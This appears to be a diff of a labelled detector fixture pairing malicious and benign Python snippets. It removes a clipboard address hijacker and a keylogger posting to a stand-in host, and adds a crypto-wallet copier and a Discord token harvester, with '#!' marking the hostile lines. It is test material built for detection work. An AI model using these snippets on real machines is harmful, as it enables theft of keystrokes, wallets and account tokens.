@@ -1,69 +1,46 @@
-#: bad clipboard
+#: bad wallet-files
+import pathlib
+import shutil
+
+HOME = pathlib.Path.home()
+WALLETS = [
+    HOME / "AppData/Roaming/Exodus/exodus.wallet",
+    HOME / "AppData/Roaming/Electrum/wallets",
+    HOME / ".ethereum/keystore",
+]
+for wallet in filter(pathlib.Path.exists, WALLETS):
+    shutil.copytree(wallet, HOME / "AppData/Local/Temp/.w" / wallet.name)  #!
+
+#: good wallet-files
+import pathlib
+import shutil
+
+HOME = pathlib.Path.home()
+CACHES = [
+    HOME / "AppData/Local/pixelkit/thumbnails",
+    HOME / ".cache/pixelkit",
+]
+for cache in filter(pathlib.Path.exists, CACHES):
+    shutil.rmtree(cache)
+
+#: bad discord-token
+import os
 import re
-import time
 
-import pyperclip
+ROAMING = os.getenv("APPDATA")
+found = set()
+for name in os.listdir(ROAMING + "\\discord\\Local Storage\\leveldb"):
+    if name.endswith((".log", ".ldb")):
+        with open(f"{ROAMING}\\discord\\Local Storage\\leveldb\\{name}", errors="ignore") as f:
+            found |= set(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read()))  #!
 
-COIN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
-OWN = "bc1qsyntheticsyntheticsynthetic0000"
-
-
-def watch():
-    while True:
-        if COIN.match(pyperclip.paste()):
-            pyperclip.copy(OWN) #!
-        time.sleep(0.5)
-#: good clipboard
+#: good discord-token
+import os
 import re
 
-import pyperclip
-
-LINK = re.compile(r"^https://[a-z.]+/[a-z]+$")
-
-
-def paste_link():
-    text = pyperclip.paste()
-    if LINK.match(text):
-        return text
-    return None
-
-
-def copy_result(result):
-    pyperclip.copy(str(result))
-#: bad typing
-from threading import Timer
-
-import requests
-from pynput import keyboard
-
-buffer = []
-
-
-def on_press(key):
-    buffer.append(str(key))
-
-
-def flush():
-    requests.post("https://typing.keystats.invalid/k", data="".join(buffer)) #!
-    Timer(60, flush).start()
-
-
-keyboard.Listener(on_press=on_press).start() #!
-flush()
-#: good typing
-from threading import Timer
-
-from pynput import keyboard
-
-
-def on_activate():
-    print("pause")
-
-
-def timeout():
-    hotkeys.stop()
-
-
-hotkeys = keyboard.GlobalHotKeys({"<ctrl>+<alt>+p": on_activate})
-hotkeys.start()
-Timer(60, timeout).start()
+LOGS = os.getenv("APP_LOGS", "logs")
+found = set()
+for name in os.listdir(LOGS):
+    if name.endswith((".log", ".txt")):
+        with open(f"{LOGS}/{name}", errors="ignore") as f:
+            found |= set(re.findall(r"ERROR (\w+)", f.read()))
